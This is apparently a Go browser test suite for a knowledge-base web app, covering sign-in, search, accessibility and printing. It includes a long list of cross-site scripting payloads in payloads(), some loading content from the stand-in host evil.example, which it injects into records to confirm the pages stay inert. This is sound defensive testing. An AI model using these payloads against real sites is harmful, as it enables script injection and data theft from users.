package app_test

import (
	"context"
	_ "embed"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/hindcast-kb/hindcast/internal/app/apptest"
	"github.com/hindcast-kb/hindcast/internal/store"
)

// chrome is a headless Chromium with one tab, which notes what pages ask for and complain of.
type chrome struct {
	t   *testing.T
	ctx context.Context
	s   *apptest.Server

	mu                            sync.Mutex
	requests, complaints, dialogs []string
}

func newChrome(t *testing.T, s *apptest.Server) *chrome {
	t.Helper()
	program := ""
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "chrome"} {
		if found, err := exec.LookPath(name); err == nil {
			program = found
			break
		}
	}
	if program == "" {
		t.Fatal("no Chromium on PATH: install the package chromium (apt-get install chromium)")
	}
	options := append([]chromedp.ExecAllocatorOption{}, chromedp.DefaultExecAllocatorOptions[:]...)
	options = append(options, chromedp.ExecPath(program), chromedp.NoSandbox, chromedp.DisableGPU, chromedp.UserDataDir(t.TempDir()), chromedp.WindowSize(1280, 900))
	for _, flag := range []string{"disable-quic", "no-first-run", "disable-background-networking", "disable-component-update", "disable-sync"} {
		options = append(options, chromedp.Flag(flag, true))
	}
	c := &chrome{t: t, s: s}
	ctx, stop := chromedp.NewExecAllocator(context.Background(), options...)
	t.Cleanup(stop)
	ctx, stopTab := chromedp.NewContext(ctx, chromedp.WithListener(c.see))
	t.Cleanup(stopTab)
	ctx, stopClock := context.WithTimeout(ctx, 4*time.Minute)
	t.Cleanup(stopClock)
	c.ctx = ctx
	return c
}

func (c *chrome) see(event any) {
	c.mu.Lock()
	defer c.mu.Unlock()
	switch event := event.(type) {
	case *network.EventRequestWillBeSent:
		c.requests = append(c.requests, event.Request.URL)
	case *log.EventEntryAdded:
		if event.Entry.Level == log.EntryLevelError {
			c.complaints = append(c.complaints, event.Entry.Text)
		}
	case *runtime.EventExceptionThrown:
		c.complaints = append(c.complaints, event.ExceptionDetails.Text)
	case *cdppage.EventJavascriptDialogOpening:
		c.dialogs = append(c.dialogs, event.Message)
	}
}

func (c *chrome) do(steps ...chromedp.Action[chromedp.Void]) {
	c.t.Helper()
	if err := chromedp.Do(c.ctx, steps...); err != nil {
		c.t.Fatalf("in the browser: %v; it complained %q", err, c.complaints)
	}
}

func (c *chrome) open(path string) {
	c.t.Helper()
	c.do(chromedp.Navigate(c.s.URL+path), chromedp.WaitReady(chromedp.CSS("main")))
}

// ask evaluates an expression in the page.
func ask[T any](c *chrome, expression string) T {
	c.t.Helper()
	got, err := chromedp.Run(c.ctx, chromedp.Evaluate[T](expression))
	if err != nil {
		c.t.Fatalf("asking the page: %v", err)
	}
	return got
}

func (c *chrome) media(name, scheme string) {
	c.t.Helper()
	_, err := chromedp.Call(c.ctx, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
		Media: name, Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}},
	})
	if err != nil {
		c.t.Fatal(err)
	}
}

// keep writes a picture of the page where HINDCAST_SCREENSHOTS says.
func (c *chrome) keep(name string) {
	c.t.Helper()
	folder := os.Getenv("HINDCAST_SCREENSHOTS")
	if folder == "" {
		return
	}
	picture, err := chromedp.Run(c.ctx, chromedp.FullScreenshot(100))
	if err == nil {
		err = os.WriteFile(filepath.Join(folder, name+".png"), picture, 0o644)
	}
	if err != nil {
		c.t.Fatal(err)
	}
}

// quiet fails when a page asked another host, opened a dialog, or broke its policy.
func (c *chrome) quiet(where string) {
	c.t.Helper()
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, request := range c.requests {
		if !strings.HasPrefix(request, c.s.URL+"/") {
			c.t.Errorf("%s: the page asks another host: %s", where, request)
		}
	}
	if len(c.complaints) > 0 || len(c.dialogs) > 0 {
		c.t.Errorf("%s: the page complains %q and opens dialogs %q", where, c.complaints, c.dialogs)
	}
	c.requests, c.complaints, c.dialogs = nil, nil, nil
}

func onSQLite(t *testing.T) *apptest.Server {
	t.Helper()
	s := apptest.Start(t, store.Config{DataDir: t.TempDir(), SQLiteSynchronous: "normal"})
	tellStory(t, s)
	return s
}

func (c *chrome) signIn() {
	c.t.Helper()
	c.open("/signin")
	c.do(chromedp.SendKeys(chromedp.CSS("#token"), c.s.Token), chromedp.Click(chromedp.CSS("form[action='/signin'] button")), chromedp.WaitReady(chromedp.CSS("nav")))
}

//go:embed testdata/audit.js
var auditScript string

// designed are pages that show every part there is.
var designed = []string{
	"/", "/search?q=session", "/search?q=zzzz", "/analytics", "/upgrades/UPG-1", "/attempts/ATT-1", "/attempts/ATT-2", "/attempts/ATT-3", "/assumptions/ASM-1",
	"/lessons/LES-1", "/incidents/INC-1", "/reviews/REV-2", "/runbooks/RBK-1", "/findings/FND-25", "/decisions/DEC-6", "/services/SVC-1",
	"/environments/ENV-2", "/events/EVT-1", "/snapshots/SNP-1", "/nowhere",
}

func TestBrowserSignsInAndFinds(t *testing.T) {
	t.Parallel()
	c := newChrome(t, onSQLite(t))
	c.open("/attempts/ATT-2")
	if at := ask[string](c, `location.pathname + location.search`); at != "/signin?next=%2Fattempts%2FATT-2" {
		t.Fatalf("a visitor is at %s", at)
	}
	c.keep("signin")
	if wrong := ask[string](c, auditScript); wrong != "" {
		t.Errorf("the page to sign in: %s", wrong)
	}
	c.do(chromedp.SendKeys(chromedp.CSS("#token"), c.s.Token+kb.Enter), chromedp.WaitReady(chromedp.CSS(".timeline")))
	if h := ask[string](c, `document.querySelector("h1").textContent`); !strings.HasPrefix(h, "Web framework 2 to 3, attempt 2") {
		t.Errorf("after signing in the page is %q", h)
	}
	c.do(chromedp.SendKeys(chromedp.CSS("#q"), "learners are sig"), chromedp.WaitVisible(chromedp.CSS("#suggestions li:first-child[data-href='/findings/FND-23']")))
	if n := ask[string](c, `document.querySelector("#q").getAttribute("aria-expanded")`); n != "true" {
		t.Errorf("the box says expanded %q", n)
	}
	c.do(chromedp.KeyEvent(kb.ArrowDown), chromedp.WaitReady(chromedp.CSS("#suggestions li:first-child[aria-selected=true]")))
	if got := ask[string](c, `document.querySelector("#q").getAttribute("aria-activedescendant")`); got != "suggestion-0" {
		t.Errorf("the first key down marks %q", got)
	}
	c.open("/search?q=session")
	if ask[int](c, `document.querySelectorAll(".hit mark").length`) == 0 || ask[int](c, `document.querySelectorAll(".facet a").length`) == 0 {
		t.Error("a search shows no match or no facet")
	}
	c.do(chromedp.Click(chromedp.CSS(".facet a")), chromedp.WaitReady(chromedp.CSS(".facet a[aria-current]")))
	c.do(chromedp.Click(chromedp.CSS(".who button")), chromedp.WaitReady(chromedp.CSS("#token")))
	c.quiet("signing in and searching")
}

func TestBrowserPagesAreAccessible(t *testing.T) {
	t.Parallel()
	c := newChrome(t, onSQLite(t))
	c.signIn()
	for _, path := range designed {
		name := strings.Trim(strings.NewReplacer("/", "-", "?", "-", "=", "-").Replace(path), "-")
		for _, scheme := range []string{"light", "dark"} {
			c.media("", scheme)
			c.open(path)
			if wrong := ask[string](c, auditScript); wrong != "" {
				t.Errorf("%s, %s: %s", path, scheme, wrong)
			}
			c.keep(name + "-" + scheme)
		}
		c.media("", "light")
		c.do(chromedp.EmulateViewport(320, 800))
		c.open(path)
		if wide := ask[int](c, `document.documentElement.scrollWidth`); wide > 320 {
			t.Errorf("%s is %d pixels wide on a screen of 320: %s", path, wide, ask[string](c, `[...document.querySelectorAll("main *")].filter(e => e.getBoundingClientRect().right > 321 && !e.closest(".scroll")).slice(0, 3).map(e => e.outerHTML.slice(0, 120)).join(" | ")`))
		}
		c.keep(name + "-narrow")
		c.do(chromedp.EmulateViewport(1280, 900))
	}
	c.mu.Lock()
	c.complaints = nil // of the page that is not there
	c.mu.Unlock()
	c.quiet("all pages")
}

func TestBrowserPagesWorkWithKeysAndOnPaper(t *testing.T) {
	t.Parallel()
	c := newChrome(t, onSQLite(t))
	c.signIn()
	c.open("/attempts/ATT-2")
	c.do(chromedp.KeyEvent(kb.Tab))
	if got := ask[string](c, `document.activeElement.className + " " + (document.activeElement.getBoundingClientRect().left >= 0)`); got != "skip true" {
		t.Errorf("the first key leads to %q", got)
	}
	c.do(chromedp.KeyEvent(kb.Enter))
	if got := ask[string](c, `document.activeElement.id`); got != "main" {
		t.Errorf("skipping leads to %q", got)
	}
	want := ask[int](c, `[...document.querySelectorAll("main a[href], main button, main summary, main [tabindex='0']")].filter(e => e.checkVisibility()).length`)
	reached := map[string]bool{}
	for range want + 5 {
		c.do(chromedp.KeyEvent(kb.Tab))
		got := ask[string](c, `(() => { const e = document.activeElement; if (!e || !document.querySelector("main").contains(e)) return "";
			const all = [...document.querySelectorAll("*")]; return all.indexOf(e) + (getComputedStyle(e).outlineStyle === "none" ? " without a ring" : ""); })()`)
		if strings.Contains(got, "without") {
			t.Errorf("something has the focus and does not show it: %s", ask[string](c, `document.activeElement.outerHTML.slice(0, 200)`))
		}
		if got != "" {
			reached[got] = true
		}
	}
	if len(reached) < want-2 {
		t.Errorf("keys reach %d of %d things", len(reached), want)
	}
	c.media("print", "light")
	if got := ask[string](c, `[".top", "footer", "button.copy"].map(s => getComputedStyle(document.querySelector(s)).display).join()`); got != "none,none,none" {
		t.Errorf("on paper the menus are %q", got)
	}
	c.open("/reviews/REV-2")
	pdf, err := chromedp.Run(c.ctx, chromedp.PrintToPDF())
	if err != nil || len(pdf) < 5000 {
		t.Errorf("printing a review = %d bytes, %v", len(pdf), err)
	}
	c.keep("review-print")
	c.quiet("keys and paper")
}

// payloads are texts that would run, ask or show something if a page believed them.
func payloads() []string {
	const run = "window.owned=1"
	var all []string
	for _, tag := range []string{"img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe", "object data=x", "marquee", "form", "math", "style", "isindex type=image src=1"} {
		for _, event := range []string{"onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart"} {
			all = append(all, "<"+tag+" "+event+"="+run+">")
		}
	}
	for _, scheme := range []string{
		"javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "&#106;avascript:", "\x01javascript:", "vbscript:", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:text/html,<script>alert(1)</script>", "blob:x", "//evil.example/x",
	} {
		all = append(all, "["+"x]("+scheme+run+")", "!["+"x]("+scheme+run+")", "<a href=\""+scheme+run+"\">x</a>", "<"+scheme+run+">", "[x]: "+scheme+run+"\n\n[x]")
	}
	return append(all,
		"<script>"+run+"</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
		`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`,
		`</svg><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `--><script>alert(1)</script>`, `" onmouseover="alert(1)`, `' autofocus onfocus='alert(1)`,
		"{{.}} {{template \"x\"}} ${alert(1)} #{alert(1)} <%= 1 %>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
		"<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "<img src=//evil.example/x.png>", "![x](https://evil.example/x.png)", "![x](//evil.example/x.png)",
		"<picture><source srcset=//evil.example/x><img></picture>", "<input type=image src=//evil.example/x>", "<video poster=//evil.example/x>", "<table background=//evil.example/x>",
		"<svg><image href=//evil.example/x /></svg>", "<svg><use href=//evil.example/x#y /></svg>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
		"<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
		"`<img src=x onerror=alert(1)>`", "```html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>", "<!--<img src=x onerror=alert(1)>-->", "<div style=background:url(//evil.example/x)>", "<button formaction=javascript:alert(1)>x</button>",
		"\u2028<script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "<mark><img src=x onerror=alert(1)></mark>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
		"<a href=x ping=//evil.example/>x</a>", "<embed src=//evil.example/x>", "<frameset onload=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "%3Cscript%3Ealert(1)%3C/script%3E",
		"FND-1<img src=x onerror=alert(1)>", "<x contenteditable onblur=alert(1)>lose focus</x>", "<dialog open onclose=alert(1)>", "<slot onslotchange=alert(1)>")
}

// inert says what on the page came from a payload and is more than text.
const inert = `[...document.querySelectorAll("*")].filter(e => e.matches("main script, main style, main iframe, main object, main embed, main base, main meta, main link, main img, main video, main audio, main form, main input, main button:not(.copy), main textarea, main template, main marquee, svg script, svg image, svg use, foreignObject, frameset")
	|| [...e.attributes].some(a => a.name.startsWith("on") || a.name === "style" || a.name === "srcset" || a.name === "ping" || (["href", "src", "action", "formaction", "xlink:href"].includes(a.name) && !/^(https?:|mailto:|\/|#|\?|$)/i.test(a.value.trim()) && !/^[\w.%-]+$/.test(a.value))))
	.map(e => e.outerHTML.slice(0, 150)).concat(window.owned ? ["a payload ran"] : []).slice(0, 5).join("\n")`

func TestBrowserRunsNothingThatRecordsSay(t *testing.T) {
	t.Parallel()
	c := newChrome(t, onSQLite(t))
	all := payloads()
	if len(all) < 150 {
		t.Fatalf("%d payloads are too few", len(all))
	}
	paths := hostile(t, c.s, all)
	c.signIn()
	for _, path := range paths {
		c.open(path)
		c.do(chromedp.Sleep(20 * time.Millisecond))
		if found := ask[string](c, inert); found != "" {
			t.Errorf("%s: %s", path, found)
		}
		if ask[int](c, `document.querySelectorAll("h1").length`) != 1 {
			t.Errorf("%s is torn", path)
		}
		c.quiet(path)
	}
	c.open("/attempts/ATT-2")
	if ask[int](c, `document.body.textContent.split("<script>window.owned=1</script>").length`) < 2 {
		t.Error("the payloads are not on the page, so that nothing was tried")
	}
	c.open("/lessons/" + benign(t, c.s))
	for _, selector := range []string{"strong", "em", "code", "ul li", "table td", "a[href='https://example.com/']", "blockquote", "del"} {
		if ask[int](c, fmt.Sprintf(`document.querySelectorAll("main dd %s").length`, strings.ReplaceAll(selector, `"`, `\"`))) == 0 {
			t.Errorf("benign formatting is lost: %s", selector)
		}
	}
}

// benign makes a lesson with ordinary formatting.
func benign(t *testing.T, s *apptest.Server) string {
	t.Helper()
	return s.Must(t, 201, "POST", "/api/v1/lessons", map[string]any{
		"title": "Benign", "when": "**bold** *soft* `code` ~~gone~~ [link](https://example.com/)", "applies_to": map[string]any{}, "tags": []string{},
		"then": "- one\n- two\n\n> said\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
	}).Text("id")
}

// hostile writes every payload into every field that takes text, and gives the pages that show them.
func hostile(t *testing.T, s *apptest.Server, all []string) []string {
	t.Helper()
	long, short := strings.Join(all, "\n\n"), func(i, n int) string {
		text := []rune(all[i%len(all)])
		return strings.ReplaceAll(string(text[:min(n, len(text))]), "\n", " ")
	}
	add := func(path string, body map[string]any) string {
		got := s.Call(t, "POST", "/api/v1/"+path, body)
		if got.Status == 422 { // some payloads are refused at the door
			return ""
		}
		if got.Status != 201 {
			t.Fatalf("%s = %d: %s", path, got.Status, got.Raw)
		}
		return got.Text("id")
	}
	paths := []string{"/", "/search?limit=200&type=finding", "/search?q=script&limit=200", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/attempts/ATT-3", "/attempts/ATT-2", "/upgrades/UPG-1", "/services/SVC-1", "/environments/ENV-2", "/analytics"}
	shown := func(path, id string) {
		if id != "" {
			paths = append(paths, "/"+path+"/"+id)
		}
	}
	for i := range all {
		tags := []string{short(i, 100)}
		id := add("findings", map[string]any{"title": short(i, 200), "severity": "high", "attempt_id": "ATT-2", "service_id": "SVC-1", "component": short(i+1, 200), "observed": all[i], "expected": all[i], "workaround": all[i], "tags": tags, "attribution": "caused_by_change"})
		if i%10 == 0 {
			shown("findings", id)
		}
		add("attempts/ATT-2/events", map[string]any{"occurred_at": "2026-02-21T08:00:00Z", "kind": "signal", "text": all[i], "source": short(i, 200)})
		add("assumptions", map[string]any{"statement": all[i], "attempt_id": "ATT-3", "importance": "blocking", "environment_id": "ENV-1", "falsified_if": all[i], "owner": short(i, 120), "areas": tags, "tags": tags})
		if i%15 == 0 {
			shown("incidents", add("incidents", map[string]any{"title": short(i, 200), "severity": "high", "impact": long, "service_id": "SVC-1", "attempt_id": "ATT-2", "tags": tags}))
			shown("lessons", add("lessons", map[string]any{"title": short(i, 200), "when": long, "then": long, "because": long, "check": long, "success_criterion": long, "applies_to": map[string]any{"tags": tags, "areas": tags}, "tags": tags}))
			shown("decisions", add("decisions", map[string]any{"kind": "other", "attempt_id": "ATT-2", "question": short(i, 200), "chosen": short(i, 200), "rationale": long, "dissent": long, "decided_by": short(i, 120), "tags": tags,
				"options": []any{map[string]any{"name": short(i, 200), "for": all[i], "against": all[i]}}}))
			shown("reviews", add("reviews", map[string]any{"title": short(i, 200), "summary": long, "impact": long, "went_well": long, "went_poorly": long, "lucky": long, "body": long, "attempt_ids": []string{"ATT-2"}, "incident_ids": []string{}, "participants": tags,
				"contributing_factors": []any{map[string]any{"category": short(i, 100), "text": long, "refs": []string{}}}, "tags": tags}))
			shown("runbooks", add("runbooks", map[string]any{"title": short(i, 200), "url": "https://example.com/?" + "x=%22%3E%3Cscript%3E", "areas": tags, "alert_names": tags, "tags": tags, "service_id": "SVC-1"}))
			shown("services", add("services", map[string]any{"name": short(i, 120), "description": long, "owner_team": short(i, 120), "tier": short(i, 100), "catalog_ref": short(i, 200)}))
			shown("upgrades", add("upgrades", map[string]any{"title": short(i, 200), "kind": "framework", "service_id": "SVC-1", "goal": long, "from_version": short(i, 100), "to_version": short(i, 100), "tags": tags}))
			shown("actions", add("actions", map[string]any{"title": short(i, 200), "done_criterion": long, "owner": short(i, 120), "tags": tags}))
			shown("references", add("references", map[string]any{"target": "ATT-2", "kind": "wiki", "url": "https://example.com/?%22onclick=alert(1)", "title": short(i, 200), "role": short(i, 120)}))
			shown("environments", add("environments", map[string]any{"name": short(i, 120), "kind": "test", "parity_target_id": "ENV-1"}))
			shown("evidence", add("assumptions/ASM-1/evidence", map[string]any{"result": "supports", "environment_id": "ENV-2", "observed_at": "2026-02-21T08:00:00Z", "summary": long, "method": short(i, 200), "url": "https://example.com/%22%3E"}))
			shown("tripwires", add("attempts/ATT-3/tripwires", map[string]any{"signal": short(i, 200), "comparator": "gt", "threshold": 1, "then": "rollback", "agreed_by": short(i, 200)}))
			shown("attempts", add("attempts", map[string]any{"upgrade_id": "UPG-1", "environment_id": "ENV-1", "strategy": long, "outcome_summary": long, "release_ref": short(i, 200), "changed_areas": tags, "tags": tags}))
		}
	}
	return append(paths, "/assumptions/ASM-1")
}
